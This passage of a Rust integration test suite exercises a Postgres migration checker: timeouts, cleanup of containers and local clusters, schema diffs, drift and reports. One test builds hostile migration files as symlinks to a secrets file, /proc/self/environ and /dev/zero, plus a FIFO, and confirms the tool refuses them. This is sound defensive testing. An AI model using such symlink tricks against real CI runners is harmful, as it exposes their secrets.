            "SELECT rolname FROM pg_roles WHERE rolname LIKE 'drydock%'"
        ),
        Vec::<String>::new(),
        "the throwaway roles are gone"
    );
    let _ = Command::new("docker").args(["rm", "-f", &id]).output();
}

#[test]
fn url_provider_works_in_its_own_database_and_drops_it() {
    let Some(image) = docker_image() else { return };
    let (id, port) = existing_server(&image);
    let before = databases(port);
    let t = repo_with(&[("001_orders.sql", ORDERS)]);
    let url = format!("postgres://postgres:s3cret-pw@127.0.0.1:{port}/postgres");
    let out = check(t.path(), &["--postgres", &url]);
    let report = json(&out);
    let files = report["directories"][0]["files"].as_array().unwrap();
    assert_eq!(files[0]["status"], "applied", "{report:#}");
    assert!(!report["postgres"].as_str().unwrap().contains("s3cret-pw"));
    assert_eq!(
        databases(port),
        before,
        "the database Drydock created is gone"
    );

    // A migration that waits on a lock another session holds is cut off by the statement timeout.
    let mut holder = Command::new("psql")
        .args([
            "-X",
            "-h",
            "127.0.0.1",
            "-p",
            &port.to_string(),
            "-U",
            "postgres",
            "-c",
        ])
        .arg("BEGIN; LOCK TABLE pg_authid IN EXCLUSIVE MODE; SELECT pg_sleep(60); COMMIT;")
        .env("PGPASSWORD", "s3cret-pw")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for("the lock to be held", || {
        let out = Command::new("psql")
            .args([
                "-X",
                "-h",
                "127.0.0.1",
                "-p",
                &port.to_string(),
                "-U",
                "postgres",
                "-At",
                "-c",
            ])
            .arg(
                "SELECT count(*) FROM pg_locks WHERE relation = \
                'pg_authid'::regclass AND mode = 'ExclusiveLock' AND granted",
            )
            .env("PGPASSWORD", "s3cret-pw")
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).trim() == "1"
    });
    let waits = repo_with(&[("001_role.sql", "CREATE ROLE drydock_waits_for_a_lock;")]);
    // As the URL's role: the throwaway role could not create one.
    fs::write(
        waits.path().join("drydock.toml"),
        "[check]\nurl-role = \"given\"\n",
    )
    .unwrap();
    let started = Instant::now();
    let out = check(
        waits.path(),
        &["--postgres", &url, "--statement-timeout", "1"],
    );
    let _ = holder.kill();
    let _ = holder.wait();
    let report = json(&out);
    let failed = findings_of(&report, "migration-fails");
    assert_eq!(failed.len(), 1, "{report:#}");
    assert!(
        failed[0]["message"]
            .as_str()
            .unwrap()
            .contains("statement timeout")
    );
    assert!(started.elapsed() < Duration::from_secs(20));
    assert_eq!(databases(port), before, "dropped after a timeout too");

    // A wrong password and an unreachable server: clear errors, never the password.
    let wrong = format!("postgres://postgres:wrong-pw@127.0.0.1:{port}/postgres");
    let out = check(t.path(), &["--postgres", &wrong]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("password authentication failed"),
        "{stderr}"
    );
    assert!(!stderr.contains("wrong-pw"), "{stderr}");
    let _ = Command::new("docker").args(["rm", "-f", &id]).output();

    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let dead_port = closed.local_addr().unwrap().port();
    drop(closed);
    let unreachable = format!("postgres://postgres:pw@127.0.0.1:{dead_port}/postgres");
    let out = check(t.path(), &["--postgres", &unreachable]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("cannot connect to postgres@127.0.0.1:{dead_port}")),
        "{stderr}"
    );
}

/// Waits until `ready` holds, polling.
fn wait_for(what: &str, mut ready: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while !ready() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Starts `drydock ARGS` in `dir` in the background, output discarded (with `TMPDIR` when given,
/// so that its local cluster can be found).
fn spawn_drydock(args: &[&str], dir: &Path, tmp: Option<&Path>) -> std::process::Child {
    let mut command = Command::new(BIN);
    command
        .args(args)
        .current_dir(dir)
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    if let Some(tmp) = tmp {
        command.env("TMPDIR", tmp);
    }
    command.spawn().unwrap()
}

/// Starts a check whose migration sleeps, waits until `started` says the server is up, sends
/// SIGTERM, and returns the exit code.
fn terminate_mid_run(
    dir: &Path,
    provider: &[&str],
    tmp: &Path,
    started: impl FnMut() -> bool,
) -> Option<i32> {
    let mut args = vec!["check", "migrations"];
    args.extend_from_slice(provider);
    let mut child = spawn_drydock(&args, dir, Some(tmp));
    wait_for("the server to start", started);
    std::thread::sleep(Duration::from_millis(500));
    unsafe {
        libc::kill(child.id() as i32, libc::SIGTERM);
    }
    child.wait().unwrap().code()
}

fn clusters_in(tmp: &Path) -> Vec<PathBuf> {
    fs::read_dir(tmp)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("drydock-pg-")
        })
        .collect()
}

#[test]
fn sigterm_stops_the_local_server_and_removes_its_files() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with(&[("001_slow.sql", "SELECT pg_sleep(60);")]);
    let tmp = tempfile::tempdir().unwrap();
    let code = terminate_mid_run(t.path(), &["--postgres", "local"], tmp.path(), || {
        clusters_in(tmp.path())
            .iter()
            .any(|c| c.join("data/postmaster.pid").exists())
    });
    assert_eq!(code, Some(143));
    assert_eq!(clusters_in(tmp.path()), Vec::<PathBuf>::new());
    let servers = Command::new("pgrep")
        .args(["-f", &tmp.path().display().to_string()])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&servers.stdout).trim().is_empty(),
        "a postgres process of the run is still alive"
    );
}

#[test]
fn sigterm_removes_the_container() {
    let Some(image) = docker_image() else { return };
    let t = repo_with(&[("001_slow.sql", "SELECT pg_sleep(60);")]);
    let tmp = tempfile::tempdir().unwrap();
    let ours = |pid: &str| {
        let out = Command::new("docker")
            .args([
                "ps",
                "-q",
                "--filter",
                &format!("label=dev.drydock.pid={pid}"),
            ])
            .output()
            .unwrap();
        !String::from_utf8_lossy(&out.stdout).trim().is_empty()
    };
    let mut args = vec![
        "check",
        "migrations",
        "--postgres",
        "docker",
        "--postgres-image",
    ];
    args.push(&image);
    let mut child = spawn_drydock(&args, t.path(), Some(tmp.path()));
    let pid = child.id().to_string();
    wait_for("the container to start", || ours(&pid));
    std::thread::sleep(Duration::from_secs(3));
    unsafe {
        libc::kill(child.id() as i32, libc::SIGTERM);
    }
    assert_eq!(child.wait().unwrap().code(), Some(143));
    let out = Command::new("docker")
        .args([
            "ps",
            "-aq",
            "--filter",
            &format!("label=dev.drydock.pid={pid}"),
        ])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "",
        "container left behind"
    );
}

#[test]
fn the_next_docker_run_removes_the_container_of_a_killed_run() {
    let Some(image) = docker_image() else { return };
    let t = repo_with(&[("001_slow.sql", "SELECT pg_sleep(60);")]);
    let with_label = |pid: &str| {
        let out = Command::new("docker")
            .args([
                "ps",
                "-aq",
                "--filter",
                &format!("label=dev.drydock.pid={pid}"),
            ])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    let args = [
        "check",
        "migrations",
        "--postgres",
        "docker",
        "--postgres-image",
        &image,
    ];
    let mut child = spawn_drydock(&args, t.path(), None);
    let pid = child.id().to_string();
    wait_for("the container to start", || !with_label(&pid).is_empty());
    // SIGKILL: no chance to clean up.
    child.kill().unwrap();
    child.wait().unwrap();
    let orphan = with_label(&pid);
    assert!(!orphan.is_empty(), "the killed run's container is there");
    // Its socket directory (marked with the run's `host/pid/start-time`) is left too.
    let socket_directories = || -> Vec<PathBuf> {
        fs::read_dir(std::env::temp_dir())
            .unwrap()
            .flatten()
            .map(|e| e.path())
            .filter(|p| {
                p.file_name()
                    .is_some_and(|n| n.to_string_lossy().starts_with("drydock-docker-"))
                    && fs::read_to_string(p.join("drydock-owner"))
                        .is_ok_and(|owner| owner.contains(&format!("/{pid}/")))
            })
            .collect()
    };
    assert_eq!(
        socket_directories().len(),
        1,
        "the killed run's socket directory is there"
    );

    let quick = repo_with(&[("001_t.sql", "CREATE TABLE t (id int);")]);
    let out = check(
        quick.path(),
        &["--postgres", "docker", "--postgres-image", &image],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        with_label(&pid),
        "",
        "the killed run's container {orphan} was not removed"
    );
    assert_eq!(socket_directories(), Vec::<PathBuf>::new());
}

#[test]
fn markdown_report_has_a_section_per_file_with_evidence() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with_change(
        &[("001_orders.sql", ORDERS)],
        &[(
            "002_change.sql",
            "ALTER TABLE orders ALTER COLUMN total TYPE integer;\nDROP TABLE orders;\n",
        )],
    );
    let out = drydock(
        &[
            "check",
            "migrations",
            "--base",
            "main",
            "--postgres",
            "local",
            "--format",
            "markdown",
        ],
        t.path(),
    );
    let markdown = String::from_utf8_lossy(&out.stdout).to_string();
    // The provider line names this machine's Postgres build; the rest is stable.
    let stable: String = markdown
        .lines()
        .map(|l| {
            if l.starts_with("applied ") {
                l.split(" to ").next().unwrap().to_string() + " to (postgres)"
            } else {
                l.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join("\n");
    insta::assert_snapshot!("check_markdown", stable);
}

#[test]
fn changed_files_are_reviewed_on_top_of_the_rest_and_a_broken_base_is_reported() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with(&[
        ("001_orders.sql", ORDERS),
        (
            "002_index.sql",
            "CREATE INDEX orders_note_idx ON orders (note);\n",
        ),
    ]);
    let changed = t.path().join("migrations/002_index.sql");
    let out = check(
        t.path(),
        &[
            "--postgres",
            "local",
            "--changed",
            changed.to_str().unwrap(),
        ],
    );
    let report = json(&out);
    let files = report["directories"][0]["files"].as_array().unwrap();
    assert_eq!(files[0]["reviewed"], false);
    assert_eq!(files[1]["reviewed"], true);
    let index = findings_of(&report, "create-index-without-concurrently");
    assert_eq!(
        index.len(),
        1,
        "orders comes from the base: it exists\n{report:#}"
    );
    assert!(evidence(index[0], "trace").is_some());

    // A base migration that does not apply: reported where it fails, nothing else runs.
    fs::write(
        t.path().join("migrations/001_orders.sql"),
        "CREATE TABLE orders (id int PRIMARY KEY);\nALTER TABLE orderz ADD COLUMN note text;\n",
    )
    .unwrap();
    let out = check(
        t.path(),
        &[
            "--postgres",
            "local",
            "--changed",
            changed.to_str().unwrap(),
        ],
    );
    // Its own outcome (exit 2), not a finding of the change; the change's static findings stay.
    assert_eq!(out.status.code(), Some(2));
    let report = json(&out);
    assert!(
        findings_of(&report, "migration-fails").is_empty(),
        "{report:#}"
    );
    assert_eq!(
        findings_of(&report, "create-index-without-concurrently").len(),
        1,
        "{report:#}"
    );
    assert_eq!(report["base_unbuilt"], true);
    let unbuilt = &report["directories"][0]["base_unbuilt"];
    assert_eq!(unbuilt["file"], "migrations/001_orders.sql");
    // Postgres gives no position for ALTER TABLE's missing relation: the statement's start.
    assert_eq!(unbuilt["line"], 2, "{unbuilt:#}");
    assert!(
        unbuilt["error"]
            .as_str()
            .unwrap()
            .contains("relation \"orderz\" does not exist"),
        "{unbuilt:#}"
    );
    let files = report["directories"][0]["files"].as_array().unwrap();
    assert_eq!(files[1]["status"], "not-applied");
}

#[test]
fn local_runs_leave_no_cluster_behind_and_directories_are_found() {
    if no_local_postgres() {
        return;
    }
    // No DIR and no drydock.toml: the migration directories of the repository are found.
    let t = tempfile::tempdir().unwrap();
    fs::create_dir_all(t.path().join("db/migrations")).unwrap();
    fs::write(
        t.path().join("db/migrations/001_a.sql"),
        "CREATE TABLE a (id int);",
    )
    .unwrap();
    fs::write(
        t.path().join("db/migrations/002_b.sql"),
        "SELECT * FROM nope;",
    )
    .unwrap();
    git(t.path(), &["init", "-q"]);
    let tmp = tempfile::tempdir().unwrap();
    let out = Command::new(BIN)
        .args(["check", "--postgres", "local", "--format", "json"])
        .current_dir(t.path())
        .env("TMPDIR", tmp.path())
        .output()
        .unwrap();
    let report = json(&out);
    assert_eq!(
        report["directories"][0]["path"], "db/migrations",
        "{report:#}"
    );
    assert_eq!(
        findings_of(&report, "migration-fails").len(),
        1,
        "{report:#}"
    );
    assert_eq!(clusters_in(tmp.path()), Vec::<PathBuf>::new());
}

#[test]
fn the_schema_diff_is_reported_and_a_hidden_drop_blocks() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with_change(
        &[(
            "001_base.sql",
            "CREATE TABLE orders (id int PRIMARY KEY, name text);\nCREATE \
                TABLE legacy (id int);\nCREATE TABLE old (id int);\n",
        )],
        &[(
            "002_change.sql",
            "ALTER TABLE orders RENAME COLUMN name TO title;\nDO $$ BEGIN \
                EXECUTE 'DROP TABLE ' || 'legacy'; END $$;\nDROP TABLE old;\n",
        )],
    );
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    assert_eq!(out.status.code(), Some(1));
    let changes: Vec<String> = report["schema_changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            format!(
                "{} {} {}",
                c["change"].as_str().unwrap(),
                c["kind"].as_str().unwrap(),
                c["name"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(
        changes,
        [
            "removed table public.legacy",
            "removed table public.old",
            "removed column public.legacy.id",
            "removed column public.old.id",
            "renamed column public.orders.title",
        ],
        "{report:#}"
    );
    // The DO block's drop: found only by the diff, blocking.
    let hidden = findings_of(&report, "destructive-change");
    assert_eq!(hidden.len(), 1, "{report:#}");
    assert_eq!(hidden[0]["blocking"], true);
    assert!(
        hidden[0]["message"]
            .as_str()
            .unwrap()
            .contains("table public.legacy")
    );
    // At the statement that dropped it (it took ACCESS EXCLUSIVE on the table), line 2.
    assert_eq!(hidden[0]["line"], 2, "{:#}", hidden[0]);
    // The explicit drop: the static finding, with the diff as evidence; no second finding.
    let explicit = findings_of(&report, "drop-table");
    assert_eq!(explicit.len(), 1);
    assert_eq!(
        evidence(explicit[0], "diff").unwrap()["summary"],
        "table public.old removed"
    );
}

/// A drop that only the schema diff sees.
const HIDDEN_DROP: &str = "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'legacy'; END $$;\n";

/// What `check` says of `change` on top of the tables `orders` and `legacy`.
fn check_on_orders_and_legacy(change: &str) -> (Output, Value) {
    let t = repo_with_change(
        &[(
            "001_base.sql",
            "CREATE TABLE orders (id int PRIMARY KEY);\nCREATE TABLE legacy (id int);\n",
        )],
        &[("002_change.sql", change)],
    );
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    (out, report)
}

/// Migration SQL shadows the catalog for unqualified names (the session's temp schema is searched
/// before pg_catalog, and a migration may set its own search_path): the probe and the schema
/// diff must still see what it did.
#[test]
fn catalog_shadowing_does_not_blind_the_trace_or_the_schema_diff() {
    if no_local_postgres() {
        return;
    }
    let rewrite = "DO $$ BEGIN EXECUTE 'ALTER TABLE orders ALTER COLUMN id TYPE bigint'; END $$;\n";
    let cases = [
        ("CREATE TEMP TABLE pg_class (oid int);\n".to_string(), false),
        (
            format!(
                "CREATE TEMP VIEW pg_locks AS SELECT * FROM pg_catalog.pg_locks WHERE false;\n\
                 {rewrite}"
            ),
            true,
        ),
        // Its own schema ahead of pg_catalog, with an `=` that is never true.
        (
            format!(
                "CREATE SCHEMA shadow;\n\
                 CREATE FUNCTION shadow.never(int, int) RETURNS bool LANGUAGE sql AS 'SELECT false';\n\
                 CREATE OPERATOR shadow.= (LEFTARG = int, RIGHTARG = int, FUNCTION = shadow.never);\n\
                 CREATE VIEW shadow.pg_namespace AS SELECT * FROM pg_catalog.pg_namespace WHERE false;\n\
                 SET search_path = shadow, pg_catalog, public;\n\
                 {rewrite}"
            ),
            true,
        ),
    ];
    for (change, rewrites) in cases {
        let (out, report) = check_on_orders_and_legacy(&format!("{change}{HIDDEN_DROP}"));
        assert_eq!(out.status.code(), Some(1), "{change}: {report:#}");
        assert!(
            findings_of(&report, "migration-fails").is_empty(),
            "{change}: {report:#}"
        );
        let dropped = findings_of(&report, "destructive-change");
        assert_eq!(dropped.len(), 1, "{change}: {report:#}");
        assert_eq!(dropped[0]["blocking"], true);
        assert!(
            dropped[0]["message"]
                .as_str()
                .unwrap()
                .contains("table public.legacy"),
            "{change}: {:#}",
            dropped[0]
        );
        if rewrites {
            let rewritten = findings_of(&report, "traced-table-rewrite");
            assert_eq!(rewritten.len(), 1, "{change}: {report:#}");
            assert!(
                rewritten[0]["message"]
                    .as_str()
                    .unwrap()
                    .contains("rewrote public.orders"),
                "{change}: {:#}",
                rewritten[0]
            );
        }
    }
}

/// A catalog that cannot be read, after a statement (to trace it) or after the migrations (for
/// the schema diff), is an error of the run, never "no changes".
#[test]
fn an_unreadable_catalog_is_an_error_of_the_run() {
    if no_local_postgres() {
        return;
    }
    // The catalog is readable by every role until a superuser revokes it; the session then
    // continues as a role that may no longer read what the probe or the introspection reads.
    let cases = [
        ("pg_proc", "could not be read after the migrations"),
        ("pg_locks", "could not be read after it to trace"),
    ];
    for (catalog, expected) in cases {
        let (out, report) = check_on_orders_and_legacy(&format!(
            "{HIDDEN_DROP}CREATE ROLE blind;\nREVOKE SELECT ON pg_catalog.{catalog} FROM PUBLIC;\n\
             SET SESSION AUTHORIZATION blind;\n"
        ));
        assert_eq!(out.status.code(), Some(1), "{catalog}: {report:#}");
        let failed = findings_of(&report, "migration-fails");
        assert_eq!(failed.len(), 1, "{catalog}: {report:#}");
        assert_eq!(failed[0]["severity"], "error");
        let message = failed[0]["message"].as_str().unwrap();
        assert!(message.contains(expected), "{catalog}: {message}");
        assert!(
            message.contains(&format!("permission denied for view {catalog}"))
                || message.contains(&format!("permission denied for table {catalog}")),
            "{catalog}: {message}"
        );
    }
}

/// `kind name: change` for each change of a `diff` or `drift` JSON report.
fn change_list(report: &Value, how: &str) -> Vec<String> {
    report["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            format!(
                "{} {}: {}",
                c["kind"].as_str().unwrap(),
                c["name"].as_str().unwrap(),
                c[how].as_str().unwrap()
            )
        })
        .collect()
}

#[test]
fn diff_compares_a_directory_at_a_git_ref_with_the_work_tree() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with_change(
        &[(
            "001_users.sql",
            "CREATE TABLE users (id int PRIMARY KEY, name text);\n",
        )],
        &[(
            "002_email.sql",
            "ALTER TABLE users ADD COLUMN email text;\nALTER TABLE users \
                DROP COLUMN name;\nCREATE TABLE schema_migrations (v int);\n",
        )],
    );
    let diff = |from: &str, to: &str, format: &str| {
        drydock(
            &["diff", from, to, "--postgres", "local", "--format", format],
            t.path(),
        )
    };
    let out = diff("main:migrations", "migrations", "json");
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = json(&out);
    assert_eq!(report["from"], "main:migrations");
    assert_eq!(report["to"], "migrations");
    assert_eq!(report["destructive"], 1);
    // Across two databases a rename cannot be told from a drop plus an add; the history table
    // is left out.
    assert_eq!(
        change_list(&report, "change"),
        [
            "column public.users.email: added",
            "column public.users.name: removed"
        ]
    );

    let out = diff("main:migrations", "main:migrations", "text");
    assert_eq!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("no schema changes"));

    // Markdown for a pull request or an issue.
    let out = diff("migrations", "main:migrations", "markdown");
    let markdown = String::from_utf8_lossy(&out.stdout);
    assert!(
        markdown.contains("- **removed** column public.users.email"),
        "{markdown}"
    );
    assert!(
        markdown.contains("- **added** column public.users.name"),
        "{markdown}"
    );

    // [diff] ignore-tables replaces the history-table list.
    fs::write(
        t.path().join("drydock.toml"),
        "[diff]\nignore-tables = [\"public.users\"]\n",
    )
    .unwrap();
    let out = diff("main:migrations", "migrations", "json");
    assert_eq!(
        change_list(&json(&out), "change"),
        [
            "table public.schema_migrations: added",
            "column public.schema_migrations.v: added"
        ]
    );
    fs::remove_file(t.path().join("drydock.toml")).unwrap();

    for (from, to, expected) in [
        (
            "nope:migrations",
            "migrations",
            "git ref `nope` was not found",
        ),
        (
            "main:elsewhere",
            "migrations",
            "elsewhere is not a directory at `main`",
        ),
        ("elsewhere", "migrations", "`elsewhere`: no such directory"),
    ] {
        let out = diff(from, to, "text");
        assert_eq!(out.status.code(), Some(2));
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(expected), "{stderr}");
    }
    // A directory that does not apply names its file and line.
    write_migrations(
        t.path(),
        &[(
            "003_bad.sql",
            "SELECT 1;\nALTER TABLE nope ADD COLUMN x int;\n",
        )],
    );
    let out = diff("main:migrations", "migrations", "text");
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("migrations/003_bad.sql:2:"), "{stderr}");
}

fn live_psql(port: u16, sql: &str) -> String {
    let out = Command::new("psql")
        .args([
            "-X",
            "-h",
            "127.0.0.1",
            "-p",
            &port.to_string(),
            "-U",
            "postgres",
            "-At",
            "-v",
            "ON_ERROR_STOP=1",
            "-c",
            sql,
        ])
        .env("PGPASSWORD", "s3cret-pw")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn drift_compares_a_live_database_without_writing_to_it() {
    let Some(image) = docker_image() else { return };
    let (id, port) = existing_server(&image);
    let migrations = [
        (
            "001_orders.sql",
            "CREATE TABLE orders (id int PRIMARY KEY, total numeric(10,2));\n",
        ),
        (
            "002_index.sql",
            "CREATE INDEX orders_total_idx ON orders (total);\nCREATE TABLE \
                schema_migrations (version bigint);\n",
        ),
    ];
    let t = repo_with(&migrations);
    for (_, sql) in migrations {
        live_psql(port, sql);
    }
    live_psql(port, "INSERT INTO schema_migrations VALUES (1), (2)");
    let url = format!("postgres://postgres:s3cret-pw@127.0.0.1:{port}/postgres");
    let drift = |t: &Path| {
        let out = drydock(
            &[
                "drift",
                "--database-url",
                &url,
                "migrations",
                "--postgres",
                "local",
                "--format",
                "json",
            ],
            t,
        );
        (out.status.code(), json(&out))
    };
    let writes = || {
        live_psql(
            port,
            "SELECT pg_stat_clear_snapshot(); SELECT tup_inserted + \
                tup_updated + tup_deleted FROM pg_stat_database WHERE datname = \
                'postgres'",
        )
    };

    let (code, report) = drift(t.path());
    assert_eq!(code, Some(0), "{report:#}");
    assert_eq!(report["in_sync"], true);

    live_psql(
        port,
        "ALTER TABLE orders ADD COLUMN hotfix text; DROP INDEX orders_total_idx",
    );
    // Every statement the server runs is logged with its application name.
    live_psql(port, "ALTER SYSTEM SET log_statement = 'all'");
    live_psql(port, "ALTER SYSTEM SET log_line_prefix = '[%a] '");
    live_psql(port, "SELECT pg_reload_conf()");
    std::thread::sleep(Duration::from_millis(700));
    let writes_before = writes();
    let (code, report) = drift(t.path());
    assert_eq!(code, Some(1), "{report:#}");
    assert_eq!(
        change_list(&report, "drift"),
        [
            "column public.orders.hotfix: only in the database",
            "index public.orders_total_idx: only in the migrations",
        ]
    );
    assert!(!report["database"].as_str().unwrap().contains("s3cret"));
    // Nothing was written by drift (its session's statistics are flushed when it disconnects).
    std::thread::sleep(Duration::from_millis(1500));
    assert_eq!(writes(), writes_before, "drift wrote to the live database");
    let logs = Command::new("docker").args(["logs", &id]).output().unwrap();
    let logs = String::from_utf8_lossy(&logs.stderr);
    let statements: Vec<&str> = logs
        .lines()
        .filter(|l| l.starts_with("[drydock drift] LOG:"))
        .filter_map(|l| l.split_once(": ").map(|(_, rest)| rest))
        .filter_map(|l| l.split_once(": ").map(|(_, statement)| statement.trim()))
        .collect();
    assert!(statements.len() > 5, "{logs}");
    for statement in statements {
        let verb = statement.split_whitespace().next().unwrap_or("");
        assert!(
            ["BEGIN", "SET", "SELECT", "COMMIT"].contains(&verb),
            "drift ran `{statement}` on the live database"
        );
    }

    // `drydock diff` reads the same database as a source.
    let out = drydock(
        &[
            "diff",
            "migrations",
            &url,
            "--postgres",
            "local",
            "--format",
            "json",
        ],
        t.path(),
    );
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(
        change_list(&report, "change"),
        [
            "column public.orders.hotfix: added",
            "index public.orders_total_idx: removed"
        ]
    );
    assert!(!report["to"].as_str().unwrap().contains("s3cret"));
    let _ = Command::new("docker").args(["rm", "-f", &id]).output();
}

/// Runs drydock and kills it after `limit`: a run that hangs fails the test instead of the suite.
fn drydock_within(args: &[&str], cwd: &Path, env: &[(&str, &str)], limit: Duration) -> Output {
    drydock_within_as(args, cwd, env, limit, None)
}

/// As [`drydock_within`], run as `user` (uid, gid) when given.
fn drydock_within_as(
    args: &[&str],
    cwd: &Path,
    env: &[(&str, &str)],
    limit: Duration,
    user: Option<(u32, u32)>,
) -> Output {
    use std::os::unix::process::CommandExt;
    let mut command = Command::new(BIN);
    if let Some((uid, gid)) = user {
        command.uid(uid).gid(gid).env("HOME", "/nonexistent");
    }
    let mut child = command
        .args(args)
        .current_dir(cwd)
        .env("NO_COLOR", "1")
        .envs(env.iter().copied())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + limit;
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            child.kill().ok();
            panic!("drydock {args:?} did not finish within {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    child.wait_with_output().unwrap()
}

/// A hostile pull request commits migrations as links to the runner's secrets (a file outside
/// the repository, `/proc/self/environ`), to `/dev/zero`, or as a FIFO: nothing is read through
/// them (the canaries appear nowhere), each is an invalid-file finding, and the run ends.
#[test]
fn migrations_that_are_links_or_special_files_are_refused_not_read() {
    if no_local_postgres() {
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("runner-secrets");
    fs::write(&secret, "GITHUB_TOKEN=ghs_file_canary_4242\n").unwrap();
    let t = repo_with_change(&[("001_orders.sql", ORDERS)], &[]);
    let migrations = t.path().join("migrations");
    let link = |target: &Path, name: &str| {
        std::os::unix::fs::symlink(target, migrations.join(name)).unwrap();
    };
    link(&secret, "002_leak.sql");
    link(Path::new("/proc/self/environ"), "003_environ.sql");
    link(Path::new("/dev/zero"), "004_zero.sql");
    let fifo = std::ffi::CString::new(migrations.join("005_fifo.sql").to_str().unwrap().as_bytes())
        .unwrap();
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o600) }, 0);
    fs::write(migrations.join("006_ok.sql"), "CREATE TABLE ok (id int);\n").unwrap();

    let env = [("DRYDOCK_TEST_CANARY", "env_canary_777")];
    for args in [
        &[
            "check",
            "migrations",
            "--format",
            "json",
            "--base",
            "main",
            "--postgres",
            "local",
        ][..],
        &["lint", "migrations", "--format", "json"][..],
    ] {
        let out = drydock_within(args, t.path(), &env, Duration::from_secs(120));
        let everything = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        for canary in ["ghs_file_canary_4242", "env_canary_777"] {
            assert!(
                !everything.contains(canary),
                "{canary} leaked:\n{everything}"
            );
        }
        assert_eq!(out.status.code(), Some(1), "{everything}");
        let report = json(&out);
        let findings = report.get("findings").unwrap_or(&report);
        let refused: Vec<String> = findings
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule"] == "invalid-file")
            .map(|f| f["file"].as_str().unwrap().to_string())
            .collect();
        for name in [
            "002_leak.sql",
            "003_environ.sql",
            "004_zero.sql",
            "005_fifo.sql",
        ] {
            assert!(
                refused.iter().any(|f| f.ends_with(name)),
                "{name} not refused: {everything}"
            );
        }
        assert!(!refused.iter().any(|f| f.ends_with("006_ok.sql")));
    }
}

/// The local cluster trusts whoever reaches its socket: its directory, socket and log are
/// private to the server's user (and root), not open to every local user.
#[test]
fn the_local_cluster_is_private_to_its_user() {
    if no_local_postgres() {
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    let t = repo_with(&[("001_slow.sql", "SELECT pg_sleep(60);")]);
    let tmp = tempfile::tempdir().unwrap();
    let mut modes = Vec::new();
    let code = terminate_mid_run(t.path(), &["--postgres", "local"], tmp.path(), || {
        let Some(cluster) = clusters_in(tmp.path())
            .into_iter()
            .find(|c| c.join("data/postmaster.pid").exists() && c.join(".s.PGSQL.5432").exists())
        else {
            return false;
        };
        let mode = |p: PathBuf| fs::metadata(&p).map_or(0, |m| m.permissions().mode() & 0o777);
        modes = vec![
            ("cluster directory", mode(cluster.clone())),
            ("socket", mode(cluster.join(".s.PGSQL.5432"))),
            ("server log", mode(cluster.join("server.log"))),
        ];
        true
    });
    assert_eq!(code, Some(143));
    assert_eq!(
        modes,
        [
            ("cluster directory", 0o700),
            ("socket", 0o700),
            ("server log", 0o600)
        ]
    );
}

/// A statement timeout under a millisecond still bounds the statement (Postgres counts in
/// milliseconds, where 0 would mean no timeout), and what a migration raises is cut before it
/// reaches a report: it chooses its own error messages.
#[test]
fn tiny_timeouts_hold_and_huge_error_messages_are_cut() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with(&[("001_slow.sql", "SELECT pg_sleep(30);")]);
    let started = Instant::now();
    let out = check(
        t.path(),
        &["--postgres", "local", "--statement-timeout", "0.0004"],
    );
    assert!(
        started.elapsed() < Duration::from_secs(25),
        "the timeout did not hold"
    );
    let report = json(&out);
    let failed = findings_of(&report, "migration-fails");
    assert_eq!(failed.len(), 1, "{report:#}");
    assert!(
        failed[0]["message"]
            .as_str()
            .unwrap()
            .contains("statement timeout")
    );

    let t = repo_with(&[(
        "001_loud.sql",
        "DO $$ BEGIN RAISE EXCEPTION '%', repeat('x', 200000); END $$;",
    )]);
